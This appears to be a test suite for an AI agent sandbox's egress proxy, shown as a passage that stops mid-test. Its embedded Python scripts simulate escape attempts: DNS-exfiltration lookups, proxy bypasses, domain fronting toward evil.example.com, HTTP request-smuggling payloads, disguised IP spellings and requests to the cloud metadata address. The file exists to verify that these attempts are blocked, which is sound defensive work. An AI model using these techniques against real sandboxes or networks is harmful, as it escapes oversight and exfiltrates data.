/**
 * The egress escape battery (NET-01..NET-12 of ../shared/threat-cases.md): an agent inside the
 * sandbox tries to reach what its allow-list does not permit, with warden run as root and as an
 * ordinary user.
 *
 * The targets are HTTP servers in this test process on host loopback addresses other than
 * 127.0.0.1 (127.0.0.2, 127.0.0.3), which the sandbox can reach only through the proxy and only
 * when they are listed exactly (NET-07). Each server records what reached it, so a test sees both
 * what the agent was told and what actually arrived. Names are given addresses with a private
 * /etc/hosts for warden (escape-kit `wardenWithHosts`): no DNS, no internet.
 */
import { readFileSync, existsSync, rmSync, lstatSync, writeFileSync } from 'node:fs';
import { connect as netConnect } from 'node:net';
import { networkInterfaces } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import {
  availableModes,
  expectRan,
  giveToSandbox,
  makeWorkspace,
  probeValues,
  removeWorkspace,
  runShell,
  SANDBOX_USER,
  TEST_USER,
  userIds,
  warden,
  type Mode,
  type WardenResult,
} from '../helpers/warden.js';
import {
  auditEvents,
  hostPython,
  nonce,
  probeResults,
  proxySocketPath,
  PY_PRELUDE,
  result,
  runIdOf,
  runPython,
  startHttpServer,
  startTcpRecorder,
  waitFor,
  wardenWithHosts,
  watchPackets,
  type AuditEvent,
  type RecordingServer,
  type TcpRecorder,
} from './escape-kit.js';

let serverA: RecordingServer; // 127.0.0.2: the allowed target
let serverA2: RecordingServer; // 127.0.0.2, another port: never allowed
let serverB: RecordingServer; // 127.0.0.3: never allowed
let serverL: RecordingServer; // 127.0.0.1: the host's own loopback
let serverE: RecordingServer | null = null; // the host's external address, when it has one
let recorder: TcpRecorder; // 127.0.0.1: raw TCP, for the TLS tests
const hostAddress = Object.values(networkInterfaces())
  .flat()
  .find((a) => a !== undefined && a.family === 'IPv4' && !a.internal)?.address;

/** Whether an IPv4 address is in a private, shared or reserved block (a host with a public address on its interface cannot use it as a NET-07 target). */
function nonGlobalV4(address: string): boolean {
  const [a = 0, b = 0, c = 0] = address.split('.').map(Number);
  return (
    a === 10 ||
    (a === 172 && b >= 16 && b < 32) ||
    (a === 192 && b === 168) ||
    (a === 100 && b >= 64 && b < 128) ||
    (a === 169 && b === 254) ||
    (a === 192 && b === 0 && c === 2) ||
    (a === 198 && (b === 18 || b === 19)) ||
    (a === 198 && b === 51 && c === 100) ||
    (a === 203 && b === 0 && c === 113)
  );
}
const privateHostAddress = hostAddress !== undefined && nonGlobalV4(hostAddress) ? hostAddress : undefined;

beforeAll(async () => {
  serverB = await startHttpServer('127.0.0.3', 'B');
  serverA = await startHttpServer('127.0.0.2', 'A', (req, res) => {
    const url = req.url ?? '';
    const redirects: Record<string, string> = {
      '/redir-same': '/final',
      '/redir-ip': `http://127.0.0.3:${serverB.port}/secret-ip`,
      '/redir-name': `http://other.warden.test:${serverB.port}/secret-name`,
      '/redir-meta': 'http://169.254.169.254/latest/meta-data/',
      '/redir-https': `https://127.0.0.3:${serverB.port}/secret-https`,
    };
    const location = redirects[url];
    if (location === undefined) return false;
    res.writeHead(302, { location, 'content-length': 0 });
    res.end();
    return true;
  });
  serverA2 = await startHttpServer('127.0.0.2', 'A2');
  serverL = await startHttpServer('127.0.0.1', 'L');
  if (hostAddress !== undefined) serverE = await startHttpServer(hostAddress, 'E');
  recorder = await startTcpRecorder('127.0.0.1');
});

afterAll(async () => {
  for (const s of [serverA, serverA2, serverB, serverL, serverE, recorder]) await s?.close();
});

const denied = (events: readonly AuditEvent[]): Record<string, unknown>[] =>
  events.filter((e) => e.type === 'egress.denied').map((e) => e.data);
const allowed = (events: readonly AuditEvent[]): Record<string, unknown>[] =>
  events.filter((e) => e.type === 'egress.allowed').map((e) => e.data);
const paths = (server: RecordingServer): string[] => server.hits.map((h) => h.url);

describe.each(availableModes())('egress escapes, warden as %s', (mode: Mode) => {
  let workspace = '';
  beforeEach(() => {
    for (const s of [serverA, serverA2, serverB, serverL, serverE]) if (s !== null) s.hits.length = 0;
    recorder.connections.length = 0;
    workspace = makeWorkspace(mode);
  });
  afterEach(() => removeWorkspace(workspace));

  const get = (run: WardenResult, name: string): Record<string, unknown> =>
    result(probeResults(run.stdout), name, run.stdout, run.stderr);

  it('NET-01 direct connections to any IP, bypassing the proxy, fail', async () => {
    const targets: [string, string, number, number][] = [
      ['internet', '1.1.1.1', 443, 2],
      ['host_loopback_allowed_server', '127.0.0.2', serverA.port, 2],
      ['host_loopback_127_0_0_1', '127.0.0.1', serverL.port, 2],
      ['host_loopback_v6', '::1', serverL.port, 10],
      ['internet_v6', '2606:4700:4700::1111', 443, 10],
      ...(serverE === null || hostAddress === undefined
        ? []
        : ([['host_external_address', hostAddress, serverE.port, 2]] as [string, string, number, number][])),
    ];
    const code = `${PY_PRELUDE}
import subprocess
out('interfaces', names=sorted(n for _, n in socket.if_nameindex()))
for name, host, port, family in CFG['targets']:
    out(name, result=direct(host, port, family))
def udp():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(b'x', ('1.1.1.1', 53))
out('udp', result=errname(udp))
c = subprocess.run(['curl', '-s', '--noproxy', '*', '-m', '5', '-o', '/dev/null', '-w', '%{http_code}', 'http://127.0.0.2:%d/curl-direct' % CFG['port']], capture_output=True, text=True)
out('curl_noproxy', code=c.returncode, http=c.stdout)
proxy_get('via_proxy', 'http://127.0.0.2:%d/via-proxy' % CFG['port'])
`;
    const run = await runPython(mode, workspace, code, { targets, port: serverA.port }, [
      '--allow-domain',
      `127.0.0.2:${serverA.port}`,
    ]);
    expectRan(run);
    expect(get(run, 'interfaces').names).toEqual(['lo']);
    for (const [name] of targets) {
      const answer = get(run, name).result;
      expect(answer, name).not.toBe('connected');
      expect(['ENETUNREACH', 'ECONNREFUSED', 'EADDRNOTAVAIL', 'EHOSTUNREACH'], `${name}: ${String(answer)}`).toContain(
        answer,
      );
    }
    expect(get(run, 'internet').result).toBe('ENETUNREACH');
    expect(get(run, 'udp').result).toBe('ENETUNREACH');
    expect(get(run, 'curl_noproxy')).toMatchObject({ code: 7, http: '000' });
    // Control: the same server through the proxy answers, and only that request arrived anywhere.
    expect(get(run, 'via_proxy')).toMatchObject({ status: 200, body: 'A /via-proxy\n' });
    expect(paths(serverA)).toEqual(['/via-proxy']);
    expect(serverL.hits).toEqual([]);
    expect(serverE?.hits ?? []).toEqual([]);
  });

  it('NET-02 with an empty allow-list no DNS query leaves the sandbox', async () => {
    const n = nonce();
    const resolver = /^nameserver\s+(\S+)/m.exec(readFileSync('/etc/resolv.conf', 'utf8'))?.[1] ?? '8.8.8.8';
    const watch = await watchPackets([`exfil${n}`, `control${n}`, `hostcheck${n}`]);
    let seen: string[] = [];
    let run: WardenResult;
    let control: WardenResult;
    try {
      // The watcher sees a lookup made on the host (proves it works)...
      await hostPython(
        `import socket\ntry:\n    socket.getaddrinfo('hostcheck${n}.example.com', 80)\nexcept OSError:\n    pass`,
      );
      const code = `${PY_PRELUDE}
import subprocess
N = CFG['n']
def rc(args):
    return subprocess.run(args, capture_output=True, text=True, timeout=20).returncode
out('getent', code=rc(['getent', 'hosts', 'a-exfil%s.example.com' % N]))
out('getaddrinfo', result=errname(lambda: socket.getaddrinfo('b-exfil%s.example.com' % N, 80)))
out('dig_default', code=rc(['dig', '+time=1', '+tries=1', 'c-exfil%s.example.com' % N]))
out('dig_host_resolver', code=rc(['dig', '@' + CFG['resolver'], '+time=1', '+tries=1', 'd-exfil%s.example.com' % N]))
out('dig_public', code=rc(['dig', '@8.8.8.8', '+time=1', '+tries=1', 'e-exfil%s.example.com' % N]))
def udp_query(server, label):
    name = b''.join(bytes([len(p)]) + p for p in ('%s.example.com' % label).encode().split(b'.')) + b'\\0'
    packet = struct.pack('>HHHHHH', 0x1234, 0x0100, 1, 0, 0, 0) + name + struct.pack('>HH', 1, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(packet, (server, 53))
out('udp_host_resolver', result=errname(lambda: udp_query(CFG['resolver'], 'f-exfil' + N)))
out('udp_loopback', result=errname(lambda: udp_query('127.0.0.53', 'g-exfil' + N)))
out('tcp_host_resolver', result=direct(CFG['resolver'], 53))
proxy_get('http', 'http://h-exfil%s.example.com/' % N)
connect_get('connect', 'i-exfil%s.example.com:443' % N)
c = subprocess.run(['curl', '-s', '-m', '5', '-x', os.environ['ALL_PROXY'], 'http://j-exfil%s.example.com/' % N], capture_output=True, text=True)
out('socks5h', code=c.returncode)
s, rep = socks('k-exfil%s.example.com' % N, 53, cmd=3)
out('socks_udp_associate', rep=rep)
`;
      run = await runPython(mode, workspace, code, { n, resolver });
      // ...and a lookup the proxy makes for an allowed name (proves it would see one from a sandbox).
      control = await runPython(
        mode,
        workspace,
        `${PY_PRELUDE}\nproxy_get('control', 'http://control${n}.example.com/')\n`,
        {},
        ['--allow-domain', `control${n}.example.com`],
      );
    } finally {
      seen = await watch.stop();
    }
    expectRan(run);
    expectRan(control);
    expect(seen, "the packet watcher saw the host's own lookup").toContain(`hostcheck${n}`);
    expect(get(control, 'control').status).toBe(502);
    expect(seen, 'the packet watcher saw the proxy resolve an allowed name').toContain(`control${n}`);
    expect(seen, 'a DNS query from the sandbox left the host').not.toContain(`exfil${n}`);
    // Each attempt was made and failed.
    expect(get(run, 'getent').code).toBe(2);
    expect(get(run, 'getaddrinfo').result).not.toBe('ok');
    expect(get(run, 'dig_default').code).not.toBe(0);
    expect(get(run, 'dig_host_resolver').code).not.toBe(0);
    expect(get(run, 'dig_public').code).not.toBe(0);
    expect(get(run, 'udp_host_resolver').result).toBe('ENETUNREACH');
    expect(get(run, 'tcp_host_resolver').result).toBe('ENETUNREACH');
    expect(get(run, 'http')).toMatchObject({ status: 403, reason: 'not_allowed' });
    expect(get(run, 'connect')).toMatchObject({ status: 403, reason: 'not_allowed' });
    expect(get(run, 'socks5h').code).not.toBe(0);
    expect(get(run, 'socks_udp_associate').rep).toBe(7); // command not supported: no UDP relay
    // The proxy refused the names without resolving them (not_allowed, not resolve_failed).
    const refusals = denied(await auditEvents(mode, workspace, runIdOf(run)));
    expect(refusals.map((d) => `${String(d.host)} ${String(d.reason)}`).sort()).toEqual([
      `h-exfil${n}.example.com not_allowed`,
      `i-exfil${n}.example.com not_allowed`,
      `j-exfil${n}.example.com not_allowed`,
      `k-exfil${n}.example.com unsupported`,
    ]);
  });

  it('NET-03 plain HTTP to a host that is not allowed gets 403 and an event', async () => {
    const n = nonce();
    const code = `${PY_PRELUDE}
import subprocess
P = CFG['port']
proxy_get('denied_name', 'http://denied-%s.example/secret?x=1' % CFG['n'])
proxy_get('denied_port', 'http://127.0.0.2:%d/other-port' % CFG['port2'])
proxy_get('denied_ip', 'http://127.0.0.3:%d/other-host' % CFG['portB'])
proxy_get('host_header_spoof', 'http://denied-%s.example/spoof' % CFG['n'], host='127.0.0.2:%d' % P)
c = subprocess.run(['curl', '-s', '-o', '/dev/null', '-w', '%{http_code}', 'http://denied-%s.example/curl' % CFG['n']], capture_output=True, text=True)
out('curl', http=c.stdout)
proxy_get('allowed', 'http://127.0.0.2:%d/allowed' % P)
`;
    const run = await runPython(
      mode,
      workspace,
      code,
      { n, port: serverA.port, port2: serverA2.port, portB: serverB.port },
      ['--allow-domain', `127.0.0.2:${serverA.port}`],
    );
    expectRan(run);
    expect(get(run, 'denied_name')).toMatchObject({ status: 403, reason: 'not_allowed' });
    expect(get(run, 'denied_name').body).toContain(`denied-${n}.example:80 is not allowed`);
    expect(get(run, 'denied_port')).toMatchObject({ status: 403, reason: 'port_not_allowed' });
    expect(get(run, 'denied_ip')).toMatchObject({ status: 403, reason: 'not_allowed' });
    expect(get(run, 'host_header_spoof')).toMatchObject({ status: 403, reason: 'not_allowed' });
    expect(get(run, 'curl').http).toBe('403');
    expect(get(run, 'allowed')).toMatchObject({ status: 200, body: 'A /allowed\n' });
    expect(paths(serverA)).toEqual(['/allowed']);
    expect(serverA2.hits).toEqual([]);
    expect(serverB.hits).toEqual([]);
    const events = await auditEvents(mode, workspace, runIdOf(run));
    expect(denied(events)).toEqual([
      expect.objectContaining({
        protocol: 'http',
        host: `denied-${n}.example`,
        port: 80,
        reason: 'not_allowed',
        method: 'GET',
      }),
      expect.objectContaining({ protocol: 'http', host: '127.0.0.2', port: serverA2.port, reason: 'port_not_allowed' }),
      expect.objectContaining({ protocol: 'http', host: '127.0.0.3', port: serverB.port, reason: 'not_allowed' }),
      expect.objectContaining({ protocol: 'http', host: `denied-${n}.example`, port: 80, reason: 'not_allowed' }),
      expect.objectContaining({ protocol: 'http', host: `denied-${n}.example`, port: 80, reason: 'not_allowed' }),
    ]);
    expect(allowed(events)).toEqual([
      expect.objectContaining({ protocol: 'http', host: '127.0.0.2', port: serverA.port }),
    ]);
    expect(run.summary?.egress).toMatchObject({ allowed: 1, denied: 5 });
  });

  it('NET-04 CONNECT to a host:port that is not allowed gets 403 and an event; port rules hold', async () => {
    const n = nonce();
    const code = `${PY_PRELUDE}
import subprocess
connect_get('denied_name', 'denied-%s.example.com:443' % CFG['n'])
connect_get('allowed', '127.0.0.2:%d' % CFG['port'], path='/tunnel')
connect_get('wrong_port', '127.0.0.2:%d' % CFG['port2'], path='/wrong-port')
connect_get('any_port', '127.0.0.3:%d' % CFG['portB'], path='/any-port')
connect_get('any_port_closed', '127.0.0.3:1')
connect_get('name_web_port', 'localhost:443')
connect_get('name_other_port', 'localhost:22')
c = subprocess.run(['curl', '-s', '-o', '/dev/null', '-w', '%{http_connect}', 'https://denied-%s.example.com/' % CFG['n']], capture_output=True, text=True)
out('curl', code=c.returncode, connect=c.stdout)
`;
    const allow = [
      '--allow-domain',
      `127.0.0.2:${serverA.port}`,
      '--allow-domain',
      '127.0.0.3:*',
      '--allow-domain',
      'localhost',
    ];
    const run = await runPython(
      mode,
      workspace,
      code,
      { n, port: serverA.port, port2: serverA2.port, portB: serverB.port },
      allow,
    );
    expectRan(run);
    expect(get(run, 'denied_name')).toMatchObject({ status: 403, reason: 'not_allowed' });
    expect(get(run, 'allowed')).toMatchObject({ status: 200, inner: 200, body: 'A /tunnel\n' });
    expect(get(run, 'wrong_port')).toMatchObject({ status: 403, reason: 'port_not_allowed' });
    // '127.0.0.3:*' allows every port: the tunnel opens (and a closed port is the upstream's answer).
    expect(get(run, 'any_port')).toMatchObject({ status: 200, inner: 200, body: 'B /any-port\n' });
    expect(get(run, 'any_port_closed').status).toBe(502);
    // 'localhost' allows ports 80/443 only; on 443 the address check (NET-07) still refuses loopback.
    expect(get(run, 'name_web_port')).toMatchObject({ status: 403, reason: 'blocked_address' });
    expect(get(run, 'name_other_port')).toMatchObject({ status: 403, reason: 'port_not_allowed' });
    expect(get(run, 'curl')).toMatchObject({ code: 56, connect: '403' });
    expect(paths(serverA)).toEqual(['/tunnel']);
    expect(serverA2.hits).toEqual([]);
    expect(paths(serverB)).toEqual(['/any-port']);
    const events = await auditEvents(mode, workspace, runIdOf(run));
    expect(denied(events)).toEqual([
      expect.objectContaining({
        protocol: 'connect',
        host: `denied-${n}.example.com`,
        port: 443,
        reason: 'not_allowed',
      }),
      expect.objectContaining({
        protocol: 'connect',
        host: '127.0.0.2',
        port: serverA2.port,
        reason: 'port_not_allowed',
      }),
      expect.objectContaining({ protocol: 'connect', host: 'localhost', port: 443, reason: 'blocked_address' }),
      expect.objectContaining({ protocol: 'connect', host: 'localhost', port: 22, reason: 'port_not_allowed' }),
      expect.objectContaining({
        protocol: 'connect',
        host: `denied-${n}.example.com`,
        port: 443,
        reason: 'not_allowed',
      }),
    ]);
    expect(allowed(events).map((e) => `${String(e.host)}:${String(e.port)}`)).toEqual([
      `127.0.0.2:${serverA.port}`,
      `127.0.0.3:${serverB.port}`,
      '127.0.0.3:1',
    ]);
  });

  it('NET-05 domain fronting: a TLS SNI or Host of another host is refused; the tunnel is pinned', async () => {
    const code = `${PY_PRELUDE}
import ssl
def client_hello(sni):
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = ctx.wrap_bio(incoming, outgoing, server_hostname=sni)
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()
def fronting(name, target, sni):
    s, status, reason, rest = connect(target)
    if status != 200:
        out(name, status=status, reason=reason)
        return
    hello = client_hello(sni)
    try:
        s.sendall(hello)
        reply = s.recv(100).decode(errors='replace')
    except OSError as e:
        reply = 'error:' + errno.errorcode.get(e.errno, str(e.errno))
    s.close()
    out(name, status=status, reply=reply, sent=len(hello))
T = CFG['tls_port']
fronting('sni_other_name', 'localhost:%d' % T, 'evil.example.com')
fronting('sni_same_name', 'localhost:%d' % T, 'localhost')
fronting('sni_other_ip', '127.0.0.1:%d' % T, 'evil.example.com')
P = CFG['port']
proxy_get('host_header', 'http://127.0.0.2:%d/fronted' % P, host='evil.example.com')
s, status, reason, rest = connect('127.0.0.2:%d' % P)
inner, body = tunnel_get(s, 'evil.example.com', '/pinned', rest)
out('pinned', status=status, inner=inner, body=body)
`;
    const T = recorder.port;
    const allow = [
      '--allow-domain',
      `localhost:${T}`,
      '--allow-domain',
      `127.0.0.1:${T}`,
      '--allow-domain',
      `127.0.0.2:${serverA.port}`,
    ];
    const run = await runPython(mode, workspace, code, { tls_port: T, port: serverA.port }, allow);
    expectRan(run);
    // The tunnel to the allowed name is closed as soon as the ClientHello names another host...
    expect(get(run, 'sni_other_name')).toMatchObject({
      status: 200,
      reply: expect.stringMatching(/^(|error:ECONNRESET)$/),
    });
    expect(get(run, 'sni_other_ip')).toMatchObject({
      status: 200,
      reply: expect.stringMatching(/^(|error:ECONNRESET)$/),
    });
    // ...while a ClientHello for the allowed name goes through (the recorder answers).
    expect(get(run, 'sni_same_name')).toMatchObject({ status: 200, reply: expect.stringMatching(/^ACK \d+/) });
    expect(recorder.connections.map((c) => c.length > 0)).toEqual([false, true, false]);
    expect(recorder.connections[1]?.[0]).toBe(0x16); // a TLS handshake record
    // Plain HTTP: a Host header naming another host than the URL is refused.
    expect(get(run, 'host_header')).toMatchObject({ status: 403, reason: 'host_mismatch' });
    // Inside a CONNECT tunnel the Host header changes nothing: the bytes go to the checked address.
    expect(get(run, 'pinned')).toMatchObject({ status: 200, inner: 200, body: 'A /pinned\n' });
    expect(serverA.hits).toEqual([{ method: 'GET', url: '/pinned', host: 'evil.example.com' }]);
    const events = await auditEvents(mode, workspace, runIdOf(run));
    const mismatches = denied(events).filter((d) => d.reason === 'host_mismatch');
    expect(mismatches.map((d) => `${String(d.protocol)} ${String(d.host)}`)).toEqual([
      'connect localhost',
      'connect 127.0.0.1',
      'http 127.0.0.2',
    ]);
    expect(events.filter((e) => e.type === 'violation').map((e) => e.data.kind)).toEqual([
      'domain_fronting',
      'domain_fronting',
      'domain_fronting',
    ]);
  });

  it('NET-05 request smuggling and pipelining cannot carry a request for another host past the check', async () => {
    const code = `${PY_PRELUDE}
A = '127.0.0.2:%d' % CFG['P']
B = '127.0.0.3:%d' % CFG['B']
au = auth_line()
def raw(name, data):
    s = proxy_socket()
    s.sendall(data.encode())
    reply = read_all(s).decode('latin-1')
    s.close()
    out(name, status=[status_of(part) for part in ['HTTP/' + p for p in reply.split('HTTP/')[1:]]])
smuggled = 'GET /smuggled-%s HTTP/1.1\\r\\nHost: ' + B + '\\r\\n\\r\\n'
raw('cl_te', 'GET http://%s/cl-te HTTP/1.1\\r\\nHost: %s\\r\\n%sContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n' % (A, A, au) + smuggled % 'clte')
body = smuggled % 'te'
raw('te_body', 'POST http://%s/te-body HTTP/1.1\\r\\nHost: %s\\r\\n%sTransfer-Encoding: chunked\\r\\nConnection: close\\r\\n\\r\\n%x\\r\\n%s\\r\\n0\\r\\n\\r\\n' % (A, A, au, len(body), body))
body = smuggled % 'cl'
raw('cl_body', 'POST http://%s/cl-body HTTP/1.1\\r\\nHost: %s\\r\\n%sContent-Length: %d\\r\\nConnection: close\\r\\n\\r\\n%s' % (A, A, au, len(body), body))
raw('pipelined', 'GET http://%s/pipelined HTTP/1.1\\r\\nHost: %s\\r\\n%s\\r\\nGET http://%s/smuggled-pipe HTTP/1.1\\r\\nHost: %s\\r\\n%sConnection: close\\r\\n\\r\\n' % (A, A, au, B, B, au))
raw('get_with_body', 'GET http://%s/get-body HTTP/1.1\\r\\nHost: %s\\r\\n%sContent-Length: %d\\r\\nConnection: close\\r\\n\\r\\n%s' % (A, A, au, len(body), body))
`;
    const run = await runPython(mode, workspace, code, { P: serverA.port, B: serverB.port }, [
      '--allow-domain',
      `127.0.0.2:${serverA.port}`,
    ]);
    expectRan(run);
    expect(get(run, 'cl_te').status).toEqual([400]);
    expect(get(run, 'te_body').status).toEqual([200]);
    expect(get(run, 'cl_body').status).toEqual([200]);
    expect(get(run, 'pipelined').status).toEqual([200, 403]);
    expect(get(run, 'get_with_body').status).toEqual([200]);
    // The allowed server saw only the outer requests (the smuggled text stayed a body); the other host nothing.
    expect(serverA.hits.map((h) => `${h.method} ${h.url} ${h.host}`)).toEqual([
      `POST /te-body 127.0.0.2:${serverA.port}`,
      `POST /cl-body 127.0.0.2:${serverA.port}`,
      `GET /pipelined 127.0.0.2:${serverA.port}`,
      `GET /get-body 127.0.0.2:${serverA.port}`,
    ]);
    expect(serverB.hits).toEqual([]);
  });

  it('NET-06 odd spellings of hosts are normalised before matching', async () => {
    const L = serverL.port;
    const P = serverA.port;
    const B = serverB.port;
    const allowedSpellings = [
      `0x7f.0.0.2:${P}`,
      `0177.0.0.2:${P}`,
      `2130706434:${P}`,
      `0x7f000002:${P}`,
      `127.2:${P}`,
      `[::ffff:127.0.0.2]:${P}`,
      `[::ffff:7f00:2]:${P}`,
      `ALLOWED.Warden.TEST:${L}`,
      `allowed.warden.test.:${L}`,
      `XN--BCHER-KVA.warden.test:${L}`,
    ];
    // Names that are not ASCII cannot be written in an HTTP request line; SOCKS5 carries them as bytes.
    const socksSpellings = ['bücher.warden.test', 'BÜCHER.Warden.Test.', 'xn--bcher-kva.warden.test'];
    const deniedSpellings = [
      `0x7f.0.0.3:${B}`,
      `0177.0.0.3:${B}`,
      `2130706435:${B}`,
      `127.3:${B}`,
      `[::ffff:127.0.0.3]:${B}`,
      `[0:0:0:0:0:ffff:7f00:3]:${B}`,
    ];
    const code = `${PY_PRELUDE}
for i, target in enumerate(CFG['allowed']):
    connect_get('allowed_%d' % i, target, path='/ok-%d' % i, host_header='x')
for i, target in enumerate(CFG['denied']):
    connect_get('denied_%d' % i, target, path='/leak-%d' % i, host_header='x')
for i, host in enumerate(CFG['socks']):
    socks_get('socks_%d' % i, host, CFG['L'], path='/socks-%d' % i)
connect_get('idn_connect', 'bücher.warden.test:%d' % CFG['L'], path='/leak-idn-connect')
socks_get('socks_homograph', 'bucher.warden.test', CFG['L'], path='/leak-socks-homograph')
socks_get('socks_decimal', '2130706435', CFG['B'], path='/leak-socks-decimal')
connect_get('v6_loopback', '[::1]:%d' % CFG['L'], path='/leak-v6')
connect_get('v6_loopback_long', '[0:0:0:0:0:0:0:1]:%d' % CFG['L'], path='/leak-v6-long')
connect_get('homograph', 'bucher.warden.test:%d' % CFG['L'], path='/leak-homograph')
connect_get('suffix', 'allowed.warden.test.evil.example:%d' % CFG['L'], path='/leak-suffix')
connect_get('double_dot', 'allowed.warden.test..:%d' % CFG['L'], path='/leak-dots')
connect_get('userinfo_connect', 'allowed.warden.test:%d@evil.example:443' % CFG['L'])
connect_get('userinfo_connect_2', 'evil.example@allowed.warden.test:%d' % CFG['L'])
proxy_get('userinfo_http', 'http://allowed.warden.test:%d@127.0.0.3:%d/leak-userinfo' % (CFG['L'], CFG['B']))
proxy_get('userinfo_http_2', 'http://evil.example@127.0.0.2:%d/leak-userinfo-2' % CFG['P'])
`;
    const hosts = [
      '127.0.0.1 allowed.warden.test',
      '127.0.0.1 xn--bcher-kva.warden.test',
      '127.0.0.1 bucher.warden.test',
      '127.0.0.1 allowed.warden.test.evil.example',
    ];
    const allow = [
      `127.0.0.2:${P}`,
      `allowed.warden.test:${L}`,
      `xn--bcher-kva.warden.test:${L}`,
      `127.0.0.1:${L}`,
    ].flatMap((a) => ['--allow-domain', a]);
    const run = await wardenWithHosts(
      mode,
      hosts,
      [
        'run',
        ...allow,
        '--',
        '/usr/bin/python3',
        '-c',
        code,
        JSON.stringify({ allowed: allowedSpellings, denied: deniedSpellings, socks: socksSpellings, L, P, B }),
      ],
      { cwd: workspace },
    );
    expectRan(run);
    allowedSpellings.forEach((target, i) => {
      expect(get(run, `allowed_${i}`), target).toMatchObject({ status: 200, inner: 200 });
    });
    deniedSpellings.forEach((target, i) => {
      expect(get(run, `denied_${i}`), target).toMatchObject({ status: 403, reason: 'not_allowed' });
    });
    socksSpellings.forEach((host, i) => {
      expect(get(run, `socks_${i}`), host).toMatchObject({ rep: 0, inner: 200, body: `L /socks-${i}\n` });
    });
    // Raw UTF-8 in a CONNECT line is refused outright (never matched loosely).
    expect(get(run, 'idn_connect').status).toBe(400);
    expect(get(run, 'socks_homograph').rep).toBe(2);
    expect(get(run, 'socks_decimal').rep).toBe(2);
    expect(get(run, 'v6_loopback')).toMatchObject({ status: 403, reason: 'not_allowed' });
    expect(get(run, 'v6_loopback_long')).toMatchObject({ status: 403, reason: 'not_allowed' });
    expect(get(run, 'homograph')).toMatchObject({ status: 403, reason: 'not_allowed' });
    expect(get(run, 'suffix')).toMatchObject({ status: 403, reason: 'not_allowed' });
    expect(get(run, 'double_dot').status).not.toBe(200);
    for (const name of ['userinfo_connect', 'userinfo_connect_2', 'userinfo_http', 'userinfo_http_2'])
      expect(get(run, name), name).toMatchObject({ status: 400, reason: 'bad_request' });
    // Every allowed spelling arrived at the server it names; nothing else arrived anywhere.
    expect(paths(serverA).sort()).toEqual(['/ok-0', '/ok-1', '/ok-2', '/ok-3', '/ok-4', '/ok-5', '/ok-6']);
    expect(paths(serverL).sort()).toEqual(['/ok-7', '/ok-8', '/ok-9', '/socks-0', '/socks-1', '/socks-2']);
    expect(serverB.hits).toEqual([]);
    // The audit log names the normalised host, whatever the spelling.
    const events = await auditEvents(mode, workspace, runIdOf(run));
    expect(allowed(events).map((e) => e.host)).toEqual([
      ...Array<string>(7).fill('127.0.0.2'),
      'allowed.warden.test',
      'allowed.warden.test',
      ...Array<string>(4).fill('xn--bcher-kva.warden.test'),
    ]);
    const refused = denied(events)
      .filter((d) => d.reason === 'not_allowed')
      .map((d) => d.host);
    expect(refused).toEqual([
      ...Array<string>(6).fill('127.0.0.3'),
      'bucher.warden.test',
      '127.0.0.3',
      '::1',
      '::1',
      'bucher.warden.test',
      'allowed.warden.test.evil.example',
    ]);
  });

  it('NET-07 an allowed name resolving to loopback, private, link-local or metadata addresses is refused unless that address is allowed', async () => {
    const P = serverA.port;
    const B = serverB.port;
    const hosts = [
      '127.0.0.2 loop.warden.test',
      '127.0.0.3 loop3.warden.test',
      '10.11.12.13 private10.warden.test',
      '172.16.5.5 private172.warden.test',
      '192.168.1.1 private192.warden.test',
      '169.254.169.254 metadata.warden.test',
      '169.254.7.7 linklocal.warden.test',
      '100.64.0.1 cgnat.warden.test',
      '0.0.0.0 zero.warden.test',
      '::1 loop6.warden.test',
      'fd00::2 ula.warden.test',
      'fe80::1 ll6.warden.test',
      '::ffff:127.0.0.3 mapped.warden.test',
      ...(privateHostAddress === undefined ? [] : [`${privateHostAddress} hostip.warden.test`]),
    ];
    const blockedTargets = [
      `loop3.warden.test:${B}`,
      'private10.warden.test:443',
      'private172.warden.test:443',
      'private192.warden.test:443',
      'metadata.warden.test:80',
      'linklocal.warden.test:443',
      'cgnat.warden.test:443',
      'zero.warden.test:443',
      `loop6.warden.test:${serverL.port}`,
      'ula.warden.test:443',
      'll6.warden.test:443',
      `mapped.warden.test:${B}`,
      `loop.warden.test:${serverA2.port}`,
      ...(privateHostAddress === undefined || serverE === null ? [] : [`hostip.warden.test:${serverE.port}`]),
    ];
    const allowNames = [
      `loop.warden.test:${P}`,
      `127.0.0.2:${P}`,
      `loop3.warden.test:${B}`,
      'private10.warden.test',
      'private172.warden.test',
      'private192.warden.test',
      'metadata.warden.test',
      'linklocal.warden.test',
      'cgnat.warden.test',
      'zero.warden.test',
      `loop6.warden.test:${serverL.port}`,
      'ula.warden.test',
      'll6.warden.test',
      `mapped.warden.test:${B}`,
      `loop.warden.test:${serverA2.port}`,
      'hostip.warden.test:*',
    ];
    const code = `${PY_PRELUDE}
connect_get('exact_address_allowed', 'loop.warden.test:%d' % CFG['P'], path='/exact')
for i, target in enumerate(CFG['blocked']):
    connect_get('blocked_%d' % i, target, path='/leak-%d' % i)
proxy_get('metadata_http', 'http://metadata.warden.test/latest/meta-data/')
connect_get('metadata_literal', '169.254.169.254:80')
`;
    const args = [
      'run',
      ...allowNames.flatMap((a) => ['--allow-domain', a]),
      '--',
      '/usr/bin/python3',
      '-c',
      code,
      JSON.stringify({ P, blocked: blockedTargets }),
    ];
    const run = await wardenWithHosts(mode, hosts, args, { cwd: workspace });
    expectRan(run);
    // Control: the name resolves and works when its address is listed exactly.
    expect(get(run, 'exact_address_allowed')).toMatchObject({ status: 200, inner: 200, body: 'A /exact\n' });
    blockedTargets.forEach((target, i) => {
      expect(get(run, `blocked_${i}`), target).toMatchObject({ status: 403, reason: 'blocked_address' });
    });
    expect(get(run, 'metadata_http')).toMatchObject({ status: 403, reason: 'blocked_address' });
    expect(get(run, 'metadata_literal')).toMatchObject({ status: 403, reason: 'not_allowed' });
    expect(paths(serverA)).toEqual(['/exact']);
    expect(serverA2.hits).toEqual([]);
    expect(serverB.hits).toEqual([]);
    expect(serverL.hits).toEqual([]);
